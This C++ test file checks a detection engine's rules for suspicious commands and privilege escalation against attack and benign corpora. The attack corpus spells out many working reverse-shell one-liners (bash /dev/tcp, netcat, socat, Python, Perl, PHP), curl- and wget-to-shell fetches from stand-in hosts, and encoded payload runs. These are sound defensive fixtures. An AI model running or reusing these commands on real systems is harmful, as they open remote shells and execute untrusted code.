// Suspicious-command and privilege-escalation detection over attack and benign corpora, using
// the engine's exec and privilege entry points.
#include "tests/detect/detect_test_util.h"

namespace ringward::detect {
namespace {

using testing::default_engine;
using testing::has;
using testing::has_prefix;
using testing::joined;

std::vector<Finding> run_line(std::string_view line) {
  CommandInput c;
  const std::size_t sp = line.find(' ');
  c.argv0 = line.substr(0, sp);
  c.filename = c.argv0;
  c.command_line = line;
  std::vector<Finding> f;
  default_engine().inspect_command(c, f);
  return f;
}

// base64 of "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
constexpr const char* kB64Shell = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE=";

struct Case {
  const char* line;
  const char* rule;
};

class CommandAttack : public ::testing::TestWithParam<Case> {};
TEST_P(CommandAttack, Detected) {
  const auto f = run_line(GetParam().line);
  EXPECT_TRUE(has(f, GetParam().rule)) << GetParam().line << " -> " << joined(f);
}
INSTANTIATE_TEST_SUITE_P(
    Corpus, CommandAttack,
    ::testing::Values(
        Case{"bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "RW-CMD-001"},
        Case{"sh -c exec 5<>/dev/tcp/10.0.0.1/4444;cat <&5 | while read l; do $l; done",
             "RW-CMD-001"},
        Case{"bash -i > /dev/udp/10.0.0.1/53 0>&1", "RW-CMD-001"},
        Case{"nc -e /bin/sh 10.0.0.1 4444", "RW-CMD-002"},
        Case{"nc.traditional -e /bin/bash 10.0.0.1 4444", "RW-CMD-002"},
        Case{"ncat 10.0.0.1 4444 --exec /bin/bash", "RW-CMD-002"},
        Case{"ncat --sh-exec 'sh' 10.0.0.1 4444", "RW-CMD-002"},
        Case{"socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr", "RW-CMD-002"},
        Case{"socat TCP4:10.0.0.1:4444 EXEC:bash", "RW-CMD-002"},
        Case{"sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
             "RW-CMD-002"},
        Case{"python3 -c import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\","
             "4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])",
             "RW-CMD-003"},
        Case{"python -c import socket,pty;s=socket.socket();s.connect((\"h\",1));pty.spawn(\"sh\")",
             "RW-CMD-003"},
        Case{"perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
             "connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));exec(\"/bin/sh -i\");",
             "RW-CMD-003"},
        Case{"perl -MIO::Socket -e $c=new IO::Socket::INET(PeerAddr,\"h:1\")", "RW-CMD-003"},
        Case{"php -r $sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
             "RW-CMD-003"},
        Case{"ruby -rsocket -e f=TCPSocket.open(\"10.0.0.1\",4444).to_i", "RW-CMD-003"},
        Case{"awk BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while(42) {}}", "RW-CMD-003"},
        Case{"sh -c curl -s http://evil.example/x.sh | sh", "RW-CMD-010"},
        Case{"sh -c curl -fsSL http://x/i.sh|bash", "RW-CMD-010"},
        Case{"sh -c wget -qO- http://evil.example/x | bash", "RW-CMD-010"},
        Case{"sh -c curl http://x/i.sh | sudo bash", "RW-CMD-010"},
        Case{"sh -c curl http://x/i.py | python3", "RW-CMD-010"},
        Case{"bash -c $(curl -fsSL http://x/install.sh)", "RW-CMD-010"},
        Case{"bash <(curl -s http://x/a)", "RW-CMD-010"},
        Case{"sh -c wget http://x/m -O /tmp/m && chmod +x /tmp/m && /tmp/m", "RW-CMD-010"},
        Case{"sh -c cd /tmp; wget http://x/m -O m; chmod 777 m; ./m", "RW-CMD-010"},
        Case{"sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | base64 -d | bash",
             "RW-CMD-020"},
        Case{"sh -c base64 --decode /tmp/p.b64 | sh", "RW-CMD-020"},
        Case{"sh -c cat x | base64 -d | python3", "RW-CMD-020"},
        Case{"sh -c xxd -r -p payload.hex | sh", "RW-CMD-020"},
        Case{"powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=", "RW-CMD-020"},
        Case{"pwsh -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=", "RW-CMD-020"},
        Case{"python3 -c exec(__import__('base64').b64decode('aW1wb3J0IG9z'))", "RW-CMD-020"},
        Case{"perl -MMIME::Base64 -e eval(decode_base64('cHJpbnQgMQ=='))", "RW-CMD-020"},
        Case{"php -r eval(base64_decode('ZWNobyAxOw=='));", "RW-CMD-020"},
        Case{"/tmp/x YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE=", "RW-CMD-021"},
        Case{"sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE=", "RW-CMD-001"},
        Case{"/dev/shm/.x -o pool", "RW-CMD-043"},
        Case{"/tmp/.cache/miner --donate 0", "RW-CMD-043"}));

class CommandBenign : public ::testing::TestWithParam<const char*> {};
TEST_P(CommandBenign, NotDetected) {
  const auto f = run_line(GetParam());
  EXPECT_TRUE(f.empty()) << GetParam() << " -> " << joined(f);
}
INSTANTIATE_TEST_SUITE_P(
    Corpus, CommandBenign,
    ::testing::Values("ls -la /home", "git log --oneline", "/usr/bin/python3 -m http.server 8000",
                      "curl -fsSL https://example.com/file.tar.gz -o file.tar.gz",
                      "base64 -d cert.b64 > cert.pem", "bash ./configure --prefix=/usr",
                      "ssh user@host", "nc -zv host 22", "echo SGVsbG8gV29ybGQgdGhpcyBpcyBmaW5l",
                      "/usr/sbin/sshd -D", "/usr/bin/gcc -O2 -c x.c -o x.o",
                      "sh -c make -j2 && make install", "wget https://example.com/a.iso",
                      "curl -X POST -d @data.json https://api.example.com/v1/items",
                      "python3 -c print('hello')", "perl -ne print if /foo/ file.txt",
                      "bash -c echo $HOME | tee /tmp/h", "tar -xzf /tmp/pkg.tar.gz -C /opt",
                      "sudo apt-get install nginx", "openssl s_client -connect example.com:443",
                      "socat TCP-LISTEN:8080,fork TCP:localhost:80", "cat /dev/tcp_stats",
                      "/usr/lib/systemd/systemd-journald", "/usr/bin/dbus-daemon --system",
                      "node /srv/app/server.js", "java -jar /opt/app.jar",
                      "sh -c ls /tmp | grep x", "docker run --rm -it debian bash",
                      "/tmp/build/configure", "echo aGVsbG8= | base64 -d"));

TEST(CommandEvents, WebServerSpawningInterpreter) {
  const Engine& e = default_engine();
  CommandInput c{"/bin/sh", "sh", "sh -c id", "sh", "nginx"};
  std::vector<Finding> f;
  e.inspect_command(c, f);
  EXPECT_TRUE(has(f, "RW-CMD-030")) << joined(f);
  f.clear();
  c.parent_comm = "php-fpm8.2";
  c.filename = "/usr/bin/python3.11";
  c.comm = "python3.11";
  e.inspect_command(c, f);
  EXPECT_TRUE(has(f, "RW-CMD-030")) << joined(f);
  f.clear();
  c = CommandInput{"/usr/bin/convert", "convert", "convert a.png b.jpg", "convert", "apache2"};
  e.inspect_command(c, f);  // a web server running a non-interpreter helper
  EXPECT_TRUE(f.empty()) << joined(f);
  c = CommandInput{"/bin/bash", "bash", "bash", "bash", "sshd"};
  e.inspect_command(c, f);  // a login shell is not a web shell
  EXPECT_TRUE(f.empty()) << joined(f);
}

TEST(CommandEvents, Masquerading) {
  const Engine& e = default_engine();
  std::vector<Finding> f;
  e.inspect_command({"/tmp/.x/kw", "[kworker/0:1]", "[kworker/0:1]", "kw", "bash"}, f);
  EXPECT_TRUE(has(f, "RW-CMD-040")) << joined(f);
  f.clear();
  e.inspect_command({"/tmp/sshd", "/tmp/sshd", "/tmp/sshd -D", "sshd", "bash"}, f);
  EXPECT_TRUE(has(f, "RW-CMD-041")) << joined(f);
  f.clear();
  e.inspect_command({"/dev/shm/systemd-logind", "systemd-logind", "systemd-logind", "systemd-logind", "sh"}, f);
  EXPECT_TRUE(has(f, "RW-CMD-041") && has(f, "RW-CMD-043")) << joined(f);
  f.clear();
  e.inspect_command({"/home/u/miner", "sshd", "sshd", "miner", "bash"}, f);
  EXPECT_TRUE(has(f, "RW-CMD-042")) << joined(f);
  f.clear();
  // The real daemons from their real places are fine.
  e.inspect_command({"/usr/sbin/sshd", "sshd", "sshd -D", "sshd", "systemd"}, f);
  e.inspect_command({"/usr/sbin/cron", "/usr/sbin/cron", "/usr/sbin/cron -f", "cron", "systemd"}, f);
  e.inspect_command({"/tmp/build/test_runner", "./test_runner", "./test_runner", "test_runner", "make"}, f);
  EXPECT_TRUE(f.empty()) << joined(f);
}

class Privilege : public ::testing::Test {
 protected:
  static PrivilegeInput base() {
    PrivilegeInput p;
    p.syscall = "setuid";
    p.old_uid = 1000;
    p.old_euid = 1000;
    p.new_uid = 0;
    p.new_euid = 0;
    p.comm = "exploit";
    return p;
  }
  std::vector<Finding> run(const PrivilegeInput& p) {
    std::vector<Finding> f;
    default_engine().inspect_privilege(p, f);
    return f;
  }
};

TEST_F(Privilege, NonRootGainingRootIsCritical) {
  const auto f = run(base());
  ASSERT_TRUE(has(f, "RW-PRIV-001")) << joined(f);
  EXPECT_EQ(f.front().severity, Severity::critical);
}

TEST_F(Privilege, EuidOnlyAndCapabilities) {
  auto p = base();
  p.new_uid = 1000;  // only the effective uid becomes 0
  EXPECT_TRUE(has(run(p), "RW-PRIV-001"));
  p = base();
  p.new_uid = p.new_euid = 1000;
  p.old_caps = 0;
  p.new_caps = 1ull << 21;  // CAP_SYS_ADMIN
  p.syscall = "capset";
  const auto f = run(p);
  EXPECT_TRUE(has(f, "RW-PRIV-002") && !has(f, "RW-PRIV-001")) << joined(f);
}

TEST_F(Privilege, AllowlistedHelpersAndNonEvents) {
  auto p = base();
  p.comm = "sudo";
  EXPECT_TRUE(run(p).empty());
  p = base();
  p.syscall = "exec";
  p.filename = "/usr/bin/passwd";
  p.old_uid = 1000;
  p.new_uid = 1000;
  p.new_euid = 0;
  EXPECT_TRUE(run(p).empty());
  p.filename = "/home/u/passwd";  // a helper's name from the wrong place is not the helper
  EXPECT_TRUE(has(run(p), "RW-PRIV-001"));
  p.filename = "/usr/bin/find";  // a set-uid binary not on the list (GTFOBins)
  EXPECT_TRUE(has(run(p), "RW-PRIV-001"));
  p = base();
  p.result = -1;  // EPERM: nothing gained
  EXPECT_TRUE(run(p).empty());
  p = base();
  p.old_uid = p.old_euid = 0;  // root dropping and regaining is not an escalation
  EXPECT_TRUE(run(p).empty());
  p = base();
  p.new_uid = p.new_euid = 1001;  // uid change between non-root users
  EXPECT_TRUE(run(p).empty());
  p = base();
  p.new_uid = p.new_euid = 1000;
  p.old_caps = 0xff;
  p.new_caps = 0x0f;  // dropping capabilities
  EXPECT_TRUE(run(p).empty());
}

// Group root (gid or egid 0) gained by a process with no root id: RW-PRIV-004, not a uid gain.
TEST_F(Privilege, GroupRootGainedWithNoRootId) {
  auto p = base();
  p.syscall = "setresgid";
  p.new_uid = p.new_euid = 1000;
  p.old_gid = p.old_egid = 1000;
  p.new_gid = p.new_egid = 0;
  auto f = run(p);
  ASSERT_TRUE(has(f, "RW-PRIV-004") && !has(f, "RW-PRIV-001")) << joined(f);
  EXPECT_EQ(f.front().severity, Severity::high);
  p.syscall = "exec";  // a set-gid binary of group root: only the effective gid changes
  p.filename = "/tmp/x/sgid";
  p.new_gid = 1000;
  EXPECT_TRUE(has(run(p), "RW-PRIV-004"));
  auto q = p;
  q.filename = "/usr/bin/passwd";  // the allowlist applies as for uid gains
  EXPECT_TRUE(run(q).empty());
  q = p;
  q.old_euid = 0;  // effective root may take any group: a root daemon regaining group 0
  q.old_uid = 0;
  EXPECT_TRUE(run(q).empty()) << joined(run(q));
  q = p;
  q.old_euid = 0;  // a set-uid root program (real uid 1000) switching to group 0
  EXPECT_TRUE(run(q).empty()) << joined(run(q));
  q = p;
  q.new_egid = 1001;  // between non-root groups
  EXPECT_TRUE(run(q).empty());
  q = p;
  q.old_egid = 0;  // group root already held
  EXPECT_TRUE(run(q).empty());
  q = p;
  q.old_gid = 0;  // back to its own real gid 0 (a pod run with gid 0): nothing gained
  q.old_egid = 1000;
  q.new_gid = 0;
  EXPECT_TRUE(run(q).empty()) << joined(run(q));
  q = base();  // uid 0 and group 0 at once (a 6755 root binary): said once, as the uid gain
  q.old_gid = q.old_egid = 1000;
  q.new_gid = q.new_egid = 0;
  f = run(q);
  EXPECT_TRUE(has(f, "RW-PRIV-001") && !has(f, "RW-PRIV-004")) << joined(f);
  q = p;
  q.result = -1;  // EPERM
  EXPECT_TRUE(run(q).empty());
}

}  // namespace
}  // namespace ringward::detect
